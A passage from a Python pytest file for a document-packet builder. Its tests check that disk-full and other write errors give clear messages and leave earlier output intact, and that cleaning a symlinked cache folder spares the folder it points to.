    """Every way of writing through _atomic turns ENOSPC into one clear BuildError."""
    before = _previous(tmp_path / "previous")
    done = _on_tmpfs(tmp_path, 64 * 1024, '"$0" -c "$1"', _STAGED_WRITES)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "the disk is full while writing out/one-certificates.pdf; free some space and build again",
        "the disk is full while writing to out; free some space and build again",
        "the disk is full while writing out/one.pdf; free some space and build again",
    ]
    assert tree(tmp_path / "after") == before
    assert temporaries(tmp_path / "after") == []


def test_staging_names_the_output_in_write_errors(tmp_path: Path) -> None:
    """Errors other than a full disk still name the output, not the temporary file."""
    out = tmp_path / "out"
    staging = Staging(out)
    target = staging.path_for("packet.pdf")
    target.unlink()
    target.mkdir()  # writing it now fails with EISDIR
    from packetgen.errors import BuildError

    with pytest.raises(BuildError, match=r"^cannot write .*/out/packet\.pdf: Is a directory$"):
        staging.write_bytes(target, b"%PDF")
    target.rmdir()
    staging.discard()


@pytest.mark.slow
@pytest.mark.skipif(not ROOT_TMPFS, reason="mounting a small tmpfs needs root and unshare")
def test_disk_full_while_writing_certificates(packet_dir: Path, tmp_path: Path) -> None:
    """certificates.py stages its PDFs with _atomic.Staging, so it gets the same message."""
    spec = packet_dir / "packet.yaml"
    spec.write_text(
        MINIMAL
        + "    certificate: {signer: Pat Doe}\n"
        + f"    attendees: [{', '.join(f'Attendee {n}' for n in range(30))}]\n"
    )
    previous = tmp_path / "previous"
    previous.mkdir()
    (previous / "one-certificates.pdf").write_bytes(b"%PDF previous certificates")
    before = tree(previous)
    # 30 certificates take far more than the page left free.
    done = _on_tmpfs(tmp_path, 8 * 1024, '"$0" -m packetgen certificates "$1" -o out', str(spec))
    assert done.returncode == 1, done.stderr
    # "writing out/one-certificates.pdf" once certificates.py writes through
    # Staging.write_bytes; "writing to out" while it writes the staged path itself.
    assert done.stderr.startswith("Error: the disk is full while writing "), done.stderr
    assert done.stderr.endswith("; free some space and build again\n"), done.stderr
    assert done.stderr.count("\n") == 1
    assert tree(tmp_path / "after") == before
    assert temporaries(tmp_path / "after") == []


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links")
def test_clean_removes_a_linked_cache_folder_but_not_its_target(tmp_path: Path) -> None:
    from packetgen.build._cache import clean

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("not the cache")
    out = tmp_path / "out"
    out.mkdir()
    (out / ".packetgen-cache").symlink_to(elsewhere, target_is_directory=True)
    assert clean(out) is True
    assert not (out / ".packetgen-cache").exists()
    assert (elsewhere / "keep.txt").read_text() == "not the cache"
    assert clean(out) is False
